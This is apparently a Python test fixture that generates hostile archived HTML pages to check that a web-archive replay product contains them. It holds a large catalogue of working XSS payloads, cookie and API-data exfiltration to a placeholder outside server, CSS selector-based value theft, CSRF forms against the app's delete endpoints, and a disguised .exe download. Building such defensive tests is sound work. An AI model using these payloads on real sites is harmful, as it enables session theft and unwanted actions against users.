"""Archived pages that each try one way to run, to fetch, to read, to act or to leave; for the replay probe."""

from dataclasses import dataclass

# ruff: noqa: E501 – an attempt is read, and compared with the lists it comes from, in one line.

# What a payload does when it runs: it says so on the page it can reach, and outside with what it could read.
_RUN = "document.documentElement.dataset.ran='{name}';try{{parent.document.documentElement.dataset.ran='{name}'}}catch(e){{}}"
_TELL = "new Image().src='{leak}/ran-{name}?'+encodeURIComponent(document.cookie);"
RUN = f"(function(){{{{{_RUN}{_TELL}}}}})();"
# Fragments by name. `{run}` is the script above for a quoted attribute, {leak} an outside server, {app} the product. An element with
# the id "go" is clicked. Each is one attempt; together they stand for the ways browsers are known to have.
_SCRIPTS = {
    "script-inline": "<script>{run}</script>",
    "script-module": '<script type="module">{run}</script>',
    "script-file": '<script src="{leak}/script.js"></script>',
    "script-async": '<script async defer src="{leak}/script-async.js"></script>',
    "script-data": '<script src="data:text/javascript,{run}"></script>',
    "script-import": '<script type="module">import("{leak}/module.js")</script>',
    "script-import-map": '<script type="importmap">{{"imports": {{"x": "{leak}/mapped.js"}}}}</script>'
    '<script type="module">import "x"</script>',
    "script-svg": "<svg><script>{run}</script></svg>",
    "script-svg-file": '<svg><script href="{leak}/svg-script.js"/></svg>',
    "script-foreign-object": "<svg><foreignObject><body><script>{run}</script></body></foreignObject></svg>",
    "script-math": "<math><annotation-xml encoding='text/html'><script>{run}</script></annotation-xml></math>",
    "script-shadow": '<div><template shadowrootmode="open"><script>{run}</script></template></div>',
    "script-comment": "<!--><script>{run}</script>-->",
    "script-select": "<select><option><script>{run}</script></option></select>",
    "script-noscript": '<noscript><p title="</noscript><script>{run}</script>"></noscript>',
    "script-style-mix": '<svg></p><style><a id="</style><img src=x: onerror={run}>">',
    "script-plaintext": '<script>{run}</script><plaintext>',
    "speculation": '<script type="speculationrules">{{"prefetch": [{{"urls": ["{leak}/speculation"], "eagerness": "immediate"}}],'
    ' "prerender": [{{"urls": ["{app}/?leak=prerender"], "eagerness": "immediate"}}]}}</script>',
}  # fmt: skip
_HANDLERS = {
    "on-error": '<img src="x:" onerror="{run}">',
    "on-load": '<svg onload="{run}"></svg>',
    "on-body": '<body onload="{run}" onpageshow="{run}" onfocus="{run}">',
    "on-toggle": '<details open ontoggle="{run}"><summary>展开</summary>正文</details>',
    "on-focus": '<input autofocus onfocus="{run}">',
    "on-focus-tab": '<p tabindex="1" autofocus onfocus="{run}">正文</p>',
    "on-video": '<video onerror="{run}"><source src="x:" onerror="{run}"></video>',
    "on-media": '<audio src="x:" onerror="{run}"></audio>',
    "on-style": '<style onload="{run}">p {{}}</style>',
    "on-link": '<link rel="stylesheet" href="data:text/css," onload="{run}">',
    "on-frame": '<iframe srcdoc="x" onload="{run}"></iframe>',
    "on-object": '<object data="x:" onerror="{run}"></object>',
    "on-animation": '<style>@keyframes a {{}}</style><p style="animation: a 1ms" onanimationstart="{run}">正文</p>',
    "on-transition": '<style>p {{transition: color 1ms; @starting-style {{color: red}}}}</style>'
    '<p ontransitionend="{run}" ontransitionrun="{run}">正文</p>',
    "on-smil": '<svg><animate attributeName="x" dur="1ms" onbegin="{run}" onend="{run}"/></svg>',
    "on-click": '<button id="go" onclick="{run}">点</button>',
    "on-popover": '<button id="go" popovertarget="p">点</button><p popover id="p" onbeforetoggle="{run}">正文</p>',
    "on-submit": '<form onsubmit="{run}"><button id="go">送出</button></form>',
    "on-marquee": '<marquee onstart="{run}" loop="1">正文</marquee>',
}  # fmt: skip
_ADDRESSES = {
    "url-frame": '<iframe src="javascript:{run}"></iframe>',
    "url-frame-entities": '<iframe src="&#x6a;ava&Tab;script&colon;{run}"></iframe>',
    "url-link": '<a id="go" href="javascript:{run}">点</a>',
    "url-link-svg": '<svg><a id="go" href="javascript:{run}"><text y="20">点</text></a></svg>',
    "url-link-xlink": '<svg><a id="go" xlink:href="javascript:{run}"><text y="20">点</text></a></svg>',
    "url-smil": '<svg><a id="go"><animate attributeName="href" to="javascript:{run}" fill="freeze" dur="1ms"/>'
    '<text y="20">点</text></a></svg>',
    "url-set": '<svg><a id="go"><set attributeName="href" to="javascript:{run}"/><text y="20">点</text></a></svg>',
    "url-math": '<math><mtext id="go" href="javascript:{run}">点</mtext></math>',
    "url-form": '<form action="javascript:{run}"><button id="go">送出</button></form>',
    "url-form-button": '<form><button id="go" formaction="javascript:{run}">送出</button></form>',
    "url-area": '<img usemap="#m" src="data:,"><map name="m"><area id="go" href="javascript:{run}"></map>',
    "url-object": '<object data="javascript:{run}"></object>',
    "url-embed": '<embed src="javascript:{run}">',
    "url-refresh": '<meta http-equiv="refresh" content="0;url=javascript:{run}">',
    "url-base": '<base href="javascript:/a/-{run}//"><a id="go" data-framed href="x">点</a>',
    "frame-srcdoc": '<iframe srcdoc="<script>{run}</script>"></iframe>',
    "frame-srcdoc-image": "<iframe srcdoc=\"<img src='{leak}/srcdoc'>\"></iframe>",
    "frame-sandbox-own": '<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>{run}</script>"></iframe>',
    "frame-data": '<iframe src="data:text/html,<script>new Image().src=%22{leak}/frame-data%22</script>"></iframe>',
    "frame-data-xml": "<iframe src=\"data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'>"
    "<script>new Image().src='{leak}/frame-xml'</script></html>\"></iframe>",
    "object-data": "<object data=\"data:text/html,<script>new Image().src='{leak}/object-data'</script>\"></object>",
    "embed-svg": "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
    "onload='new Image().src=&quot;{leak}/embed-svg&quot;'/>\">",
    "image-svg": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'>"
    "<image href='{leak}/image-svg'/><script>new Image().src='{leak}/image-svg-script'</script></svg>\">",
    "use-data": "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='{leak}/use-data'/></svg>#x\"/></svg>",
}  # fmt: skip
_FETCHES = {
    "fetch-image": '<img src="{leak}/image">',
    "fetch-srcset": '<img srcset="{leak}/srcset 1x" sizes="1px" src="data:,">',
    "fetch-picture": '<picture><source srcset="{leak}/picture"><img alt="图"></picture>',
    "fetch-input": '<input type="image" src="{leak}/input">',
    "fetch-video": '<video src="{leak}/video" poster="{leak}/poster" autoplay muted></video>',
    "fetch-audio": '<audio src="{leak}/audio" autoplay></audio>',
    "fetch-track": '<video src="data:video/mp4," controls><track src="{leak}/track" default kind="subtitles"></video>'
    '<video><source src="{leak}/source"></video>',
    "fetch-frame": '<iframe src="{leak}/iframe"></iframe>',
    "fetch-frame-app": '<iframe src="{app}/?leak=frame"></iframe>',
    "fetch-frame-lazy": '<iframe loading="lazy" src="{leak}/lazy" width="9" height="9"></iframe>',
    "fetch-object": '<object data="{leak}/object"></object>',
    "fetch-object-pdf": '<object type="application/pdf" data="{leak}/file.pdf"></object>',
    "fetch-embed": '<embed src="{leak}/embed">',
    "fetch-embed-pdf": '<embed type="application/pdf" src="{leak}/embed.pdf">',
    "fetch-pdf-data": '<iframe src="data:application/pdf;base64,JVBERi0xLjQKJSVFT0Y="></iframe><img src="{leak}/beside">',
    "fetch-table": '<table background="{leak}/table"><tr><td background="{leak}/td">表</td></tr></table>',
    "fetch-body": '<body background="{leak}/body">',
    "fetch-svg-image": '<svg><image href="{leak}/svg-image" width="9" height="9"/></svg>',
    "fetch-svg-use": '<svg><use href="{app}/static/leak.svg#x"/></svg>',
    "fetch-svg-filter": '<svg><filter id="f"><feImage href="{leak}/fe"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>',
    "fetch-math": '<math><mtext><img src="{leak}/math"></mtext></math>',
    "fetch-shadow": '<div><template shadowrootmode="open"><img src="{leak}/shadow"></template></div>',
    "fetch-noscript": '<noscript><img src="{leak}/noscript"></noscript>',
    "fetch-base": '<base href="{leak}/base/"><img src="relative">',
    "fetch-app-as-image": '<img src="{app}/s/leak/thumbnail"><img src="/?leak=own">',
}  # fmt: skip
_HINTS = {
    "link-style": '<link rel="stylesheet" href="{leak}/style.css">',
    "link-preload": '<link rel="preload" as="image" href="{leak}/preload">',
    "link-preload-font": '<link rel="preload" as="font" crossorigin href="{leak}/font.woff2">',
    "link-preload-fetch": '<link rel="preload" as="fetch" crossorigin="use-credentials" href="{app}/?leak=preload">',
    "link-prefetch": '<link rel="prefetch" href="{leak}/prefetch">',
    "link-module": '<link rel="modulepreload" href="{leak}/modulepreload.js">',
    "link-icon": '<link rel="icon" href="{leak}/icon"><link rel="apple-touch-icon" href="{leak}/touch">',
    "link-manifest": '<link rel="manifest" href="{leak}/manifest">',
    "link-prerender": '<link rel="prerender" href="{leak}/prerender">',
    "link-dictionary": '<link rel="compression-dictionary" href="{leak}/dictionary">',
    "link-preconnect": '<link rel="preconnect" href="{connect}"><link rel="preconnect" href="{connect}" crossorigin>',
}
_STYLES = {
    "css-import": '<style>@import "{leak}/import.css";</style>',
    "css-import-layer": '<style>@import url("{leak}/layer.css") layer(a) supports(display: grid);</style>',
    "css-font": '<style>@font-face {{font-family: L; src: url("{leak}/font")}} p {{font-family: L}}</style><p>正文</p>',
    "css-background": '<style>body {{background: url("{leak}/background")}}</style>',
    "css-attribute": '<p style="background: url({leak}/inline)">正文</p>',
    "css-content": '<style>p::before {{content: url("{leak}/content")}}</style><p>正文</p>',
    "css-list": '<style>li {{list-style: url("{leak}/list")}}</style><ul><li>项</li></ul>',
    "css-border": '<style>p {{border: 9px solid; border-image: url("{leak}/border") 1}}</style><p>正文</p>',
    "css-mask": '<style>p {{mask: url("{leak}/mask"); clip-path: url("{leak}/clip#c")}}</style><p>正文</p>',
    "css-filter": '<style>p {{filter: url("{leak}/filter#f")}}</style><p>正文</p>',
    "css-shape": '<style>p {{float: left; shape-outside: url("{leak}/shape")}}</style><p>正文</p>',
    "css-image-set": '<style>p {{background: image-set("{leak}/image-set" 1x)}}</style><p>正文</p>',
    "css-cursor": '<style>* {{cursor: url("{leak}/cursor"), auto}}</style><p id="go">正文</p>',
    "css-attr": '<style>p {{background: image-set(attr(data-x) 1x); --x: url("{leak}/property"); background: var(--x)}}</style>'
    '<p data-x="{leak}/attr">正文</p>',
    "css-exfiltration": '<input value="s3cret"><style>input[value^="s"] {{background: url("{leak}/starts-with-s")}}'
    ' html:has(input[value$="t"]) {{background: url("{leak}/ends-with-t")}}</style>',
    "css-svg": '<svg><style>@import "{leak}/svg.css"; rect {{fill: url("{leak}/fill#f")}}</style><rect width="9" height="9"/></svg>',
    "css-scoped": '<style>@scope (body) {{p {{background: url("{leak}/scope")}}}} @media print {{p {{background: url("{leak}/print")}}}}'
    '</style><p>正文</p>',
    "css-namespace": '<link rel="stylesheet" href="data:text/css,@import%20%22{leak}/data-css%22;">',
}  # fmt: skip
_ACTS = {
    "act-refresh": '<meta http-equiv="refresh" content="0;url={leak}/refresh">',
    "act-refresh-app": '<meta http-equiv="refresh" content="0;url={app}/?leak=refresh">',
    "act-refresh-later": '<meta http-equiv="refresh" content="1;url={leak}/refresh-later">',
    "act-set-cookie": '<meta http-equiv="Set-Cookie" content="leak=1"><script>document.cookie="leak=2";{run}</script>',
    "act-policy": '<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * \'unsafe-inline\'"><script>{run}</script>',
    "act-form": '<form action="{app}/links/leak/delete" method="post"><button id="go">送出</button></form>',
    "act-form-script": '<form id="f" action="{app}/language/?leak=1" method="post"></form><script>f.submit()</script>',
    "act-form-out": '<form action="{leak}/form" target="_blank"><button id="go">送出</button></form>',
    "act-form-top": '<form action="{app}/?leak=form-top" target="_top"><button id="go">送出</button></form>',
    "act-top": '<script>top.location = "{app}/?leak=top"; {run}</script>',
    "act-top-link": '<a id="go" data-framed target="_top" href="{app}/?leak=top-link">点</a>',
    "act-parent-link": '<a id="go" data-framed target="_parent" href="{leak}/parent-link">点</a>',
    "act-frame-link": '<a id="go" data-framed href="{leak}/self-link">点</a>',
    "act-popup": '<script>open("{leak}/popup"); {run}</script>',
    "act-popup-link": '<a id="go" target="_blank" rel="opener" href="{leak}/popup-link">点</a>',
    "act-download": '<a id="go" data-framed download="账单.exe" href="{leak}/download">点</a>',
    "act-download-data": '<a id="go" download="账单.exe" href="data:application/octet-stream,MZ">点</a><img src="{leak}/beside">',
    "act-ping": '<a id="go" ping="{leak}/ping" href="#here">点</a>',
    "act-dialogs": '<script>{run} alert(1); confirm(1); prompt(1); print()</script>',
    "act-unload": '<script>{run} onbeforeunload = () => "留下"; setInterval(() => location.reload(), 50)</script>',
    "act-history": '<script>{run} for (let n = 0; n < 99; n++) history.pushState(n, "", "#" + n)</script>',
    "act-slow-frame": '<iframe srcdoc="<meta http-equiv=refresh content=\'1;url={leak}/slow-frame\'>"></iframe>',
}  # fmt: skip
_READS = {
    "read-cookie": '<script>{run} fetch("{leak}/cookie?" + document.cookie, {{mode: "no-cors"}})</script>',
    "read-storage": '<script>{run} localStorage.leak = 1; sessionStorage.leak = 1; indexedDB.open("leak"); caches.open("leak")</script>',
    "read-api": '<script>{run} fetch("{app}/settings/?leak=api", {{credentials: "include"}}).then(r => r.text()).then('
    't => navigator.sendBeacon("{leak}/api", t))</script>',
    "read-parent": '<script>{run} new Image().src = "{leak}/parent?" + parent.document.title</script>',
    "read-opener": '<script>{run} new Image().src = "{leak}/opener?" + (window.opener && opener.location)</script>',
    "read-message": '<script>{run} parent.postMessage("leak", "*"); new BroadcastChannel("leak").postMessage(1)</script>',
    "net-beacon": '<script>{run} navigator.sendBeacon("{leak}/beacon", "x")</script>',
    "net-xhr": '<script>{run} var x = new XMLHttpRequest; x.open("POST", "{app}/language/?leak=xhr"); x.send()</script>',
    "net-socket": '<script>{run} new WebSocket("{leak}/socket".replace("http", "ws"))</script>',
    "net-events": '<script>{run} new EventSource("{leak}/events")</script>',
    "net-rtc": '<script>{run} var c = new RTCPeerConnection({{iceServers: [{{urls: "stun:127.0.0.1:9"}}]}});'
    'c.createDataChannel(""); c.createOffer().then(o => c.setLocalDescription(o))</script>',
    "worker": '<script>{run} new Worker(URL.createObjectURL(new Blob(["fetch(\'{leak}/worker\', {{mode: \'no-cors\'}})"])))</script>',
    "worker-shared": '<script>{run} new SharedWorker("data:text/javascript,fetch(\'{leak}/shared-worker\')")</script>',
    "worker-service": '<script>{run} navigator.serviceWorker.register("/leak-worker.js")</script>',
    "script-eval": '<script>{run} setTimeout("new Image().src=\'{leak}/eval\'", 1); new Function("fetch(\'{leak}/function\')")()</script>',
    "script-wasm": '<script>{run} WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))</script>',
}  # fmt: skip
FRAGMENTS = _SCRIPTS | _HANDLERS | _ADDRESSES | _FETCHES | _HINTS | _STYLES | _ACTS | _READS
# Bytes that are no UTF-8: a byte order mark goes before the header, or a declared set of characters would.
_ENCODED = {"bytes-utf-16": "utf-16", "bytes-utf-7": "utf-7", "bytes-iso-2022-jp": "iso-2022-jp"}


@dataclass(frozen=True)
class Payload:
    """One page: its name, its bytes, and whether a click in it leads away only from inside a frame."""

    name: str
    html: bytes
    clicks: bool
    only_framed: bool


def payloads(leak: str, app: str, connect: str) -> list[Payload]:
    """All pages; `leak` and `connect` are outside servers (the second one only counts connections), `app` the product."""
    return [*(_payload(name, leak, app, connect) for name in FRAGMENTS), *_encoded(leak)]


def _payload(name: str, leak: str, app: str, connect: str) -> Payload:
    run = RUN.format(name=name, leak=leak)
    fragment = FRAGMENTS[name].format(run=run, leak=leak, app=app, connect=connect, name=name)
    only_framed = "data-framed" in fragment
    return Payload(name, _page(fragment), 'id="go"' in fragment, only_framed)


def _page(fragment: str) -> bytes:
    return (
        f'<!doctype html><html lang="zh"><head><meta charset="utf-8"><title>敌意</title></head><body>'
        f"<p>存档的正文</p>{fragment}<p>正文的末尾</p></body></html>"
    ).encode()


def _encoded(leak: str) -> list[Payload]:
    found = []
    for name, encoding in _ENCODED.items():
        script = f"<script>{RUN.format(name=name, leak=leak)}</script>"
        text = f'<!doctype html><meta charset="{encoding}"><p>Body text</p>{script}'
        found.append(Payload(name, text.encode(encoding), clicks=False, only_framed=False))
    return found
